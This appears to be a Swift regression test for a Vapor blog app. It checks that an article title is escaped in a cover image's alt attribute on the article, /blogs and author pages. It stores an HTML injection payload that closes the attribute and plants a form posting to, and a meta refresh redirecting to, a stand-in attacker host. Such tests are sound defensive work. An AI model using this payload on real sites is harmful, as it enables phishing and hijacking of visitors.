import Testing
import TestSupport
import VaporTesting

/// Issue 14, hole 3: an article's title was written unescaped into its cover picture's `alt`, so a title could close
/// the attribute and put a form and a redirect on every page that lists the article.
@Suite("An article's title stays text in every attribute")
struct ArticleTitleInjectionTests {
    private static let title = #""><form action="https://attacker.invalid/s" method="post"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">"#

    @Test("A title that closes the cover's alt comes out as text on the article, in /blogs and on the author's blog")
    func titleBesideCover() async throws {
        try await withTestApp { app in
            let blogs = BlogFixture(app: app)
            let anna = try await blogs.member("anna"), ben = try await blogs.member("ben")
            let path = try await blogs.article(Self.title, in: "/@anna/blog", by: anna.browser)
            let cover = try await blogs.uploadCover(to: path, by: anna)
            #expect(cover.status == .seeOther, "\(cover.text)")

            for page in [path, "/blogs", "/@anna/blog"] {
                let html = try await ben.browser.get(page).text
                #expect(html.contains(#"class="article-cover""#), "\(page) shows no cover")
                #expect(!html.contains(#"<form action="https://attacker.invalid"#), "\(page) carries the injected form")
                #expect(!html.lowercased().contains("<meta http-equiv"), "\(page) carries the injected refresh")
                #expect(html.contains(#"alt="&quot;&gt;&lt;form action=&quot;https://attacker.invalid/s&quot;"#), "\(page) lost the title in alt")
                #expect(!XSSPayloads.tags(in: html).contains { $0.name == "form" && $0.attributes.contains { $0.1.contains("attacker") } })
            }
        }
    }
}
